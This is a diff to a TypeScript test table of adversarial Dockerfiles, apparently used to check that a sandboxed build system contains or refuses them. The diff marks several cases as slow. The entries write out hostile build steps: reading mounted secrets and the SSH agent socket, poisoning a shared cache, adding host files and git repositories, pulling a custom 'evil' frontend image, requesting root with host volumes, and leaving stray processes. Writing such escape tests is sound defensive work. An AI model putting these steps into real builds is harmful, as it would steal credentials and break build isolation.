@@ -63,6 +63,7 @@ const definitions: readonly DockerfileRow[] = [
   {
     id: "ignore-file-links",
     tries: "has a .dockerignore and a Dockerfile that are links to files of the host's",
+    pace: "long",
     steps: () => "RUN true\n",
     context: (folder, target) => symlinkSync(target.file, join(folder, ".dockerignore")),
   },
@@ -82,12 +83,14 @@ const definitions: readonly DockerfileRow[] = [
   {
     id: "mounts-of-secrets",
     tries: "mounts secrets, keys of an agent and caches of other builds",
+    pace: "long",
     steps: () =>
       `RUN --mount=type=secret,id=x,required=true cat /run/secrets/x && echo "${got}  secret"\nRUN --mount=type=ssh ls -l $SSH_AUTH_SOCK && echo "${got}  agent"\n`,
   },
   {
     id: "cache-mount-poisoned",
     tries: "leaves something in a cache mount for other builds",
+    pace: "long",
     steps: () => "RUN --mount=type=cache,id=shared,target=/cache echo x > /cache/planted; ls /cache\n",
   },
   {
@@ -105,6 +108,7 @@ const definitions: readonly DockerfileRow[] = [
   {
     id: "add-git",
     tries: "adds git repositories of the host's and of others",
+    pace: "long",
     steps: ({ folder, port }) => `ADD git://127.0.0.1:${port}/x.git /a\nADD file://${folder} /b\n`,
   },
   {
@@ -131,6 +135,7 @@ const definitions: readonly DockerfileRow[] = [
   {
     id: "frontend",
     tries: "names a program of its own that reads the Dockerfile",
+    pace: "long",
     steps: () => "# syntax=images.example/evil:1\nFROM images.example/base\nRUN true\n",
     refusedAs: ["install-refused-by-sandbox", "install-failed"],
   },
@@ -183,6 +188,7 @@ const definitions: readonly DockerfileRow[] = [
   {
     id: "volumes-and-users",
     tries: "asks to run as root, with volumes of the host's, more rights and exposed ports",
+    pace: "long",
     steps: () =>
       'USER 0:0\nVOLUME /etc /var/run\nEXPOSE 22\nSTOPSIGNAL SIGKILL\nHEALTHCHECK CMD touch /tmp/trapped\nONBUILD RUN touch /tmp/trapped\nLABEL run="--privileged"\n',
   },
@@ -209,6 +215,7 @@ const definitions: readonly DockerfileRow[] = [
   {
     id: "steps-left-running",
     tries: "leaves processes behind its steps",
+    pace: "long",
     steps: () => "RUN setsid sleep 993 & sleep 0.2\nRUN (trap '' TERM HUP; sleep 994) & sleep 0.2\n",
   },
 ];
